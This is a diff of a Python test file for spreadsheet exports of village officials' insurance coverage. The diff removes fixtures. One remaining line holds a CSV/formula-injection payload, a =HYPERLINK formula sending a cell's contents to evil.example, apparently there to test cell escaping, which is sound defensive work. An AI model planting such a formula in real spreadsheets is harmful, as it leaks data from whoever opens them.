@@ -16,7 +16,7 @@ from openpyxl import load_workbook
 from enrollment import exports
 from enrollment.exports import escape_cell
 from enrollment.selectors import coverage_for_area
-from tests.factories import MembershipFactory, PersonFactory, PostFactory
+from tests.factories import PersonFactory, PostFactory
 from villages.models import Village
 from villages.roles import user_role_set
 from villages.selectors import area_get
@@ -27,39 +27,6 @@ KARANGLEWAS = "33.02.03.2003"
 GUNUNGWETAN = "33.02.03.2001"
 FIGURE_HEADERS = ["Posts", "Covered", "Coverage (%)", "Lapsing soon", "In arrears"]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
-
-
-def covered(person, until=dt.date(2026, 12, 31), programs=("JKK", "JKM")):
-    for code in programs:
-        MembershipFactory(person=person, program_id=code, paid_until=until)
-
-
-@pytest.fixture(autouse=True)
-def english():
-    with translation.override("en"):
-        yield
-
-
-@pytest.fixture
-def district(db):
-    kades = PostFactory(code="KEPALA_DESA", village_id=KARANGLEWAS)
-    covered(kades.person)
-    sekdes = PostFactory(
-        code="SEKRETARIS_DESA",
-        village_id=KARANGLEWAS,
-        person=PersonFactory(name="Sri Hartuti", sex="P"),
-    )
-    covered(sekdes.person, programs=("JKK",))
-    kaur = PostFactory(code="KAUR", village_id=KARANGLEWAS, person=PersonFactory(name="Sutrisno"))
-    covered(kaur.person, until=dt.date(2026, 12, 10))
-    bpd = PostFactory(
-        code="ANGGOTA_BPD", village_id=KARANGLEWAS, person=PersonFactory(name="Romini")
-    )
-    covered(bpd.person, until=dt.date(2026, 10, 31))
-    other = PostFactory(code="KEPALA_DESA", village_id=GUNUNGWETAN)
-    covered(other.person)
-    PostFactory(code="PENGURUS_LKD", village_id=GUNUNGWETAN, person=other.person)
-    return {"kades": kades, "sekdes": sekdes, "kaur": kaur, "bpd": bpd}
 
 
 @pytest.fixture
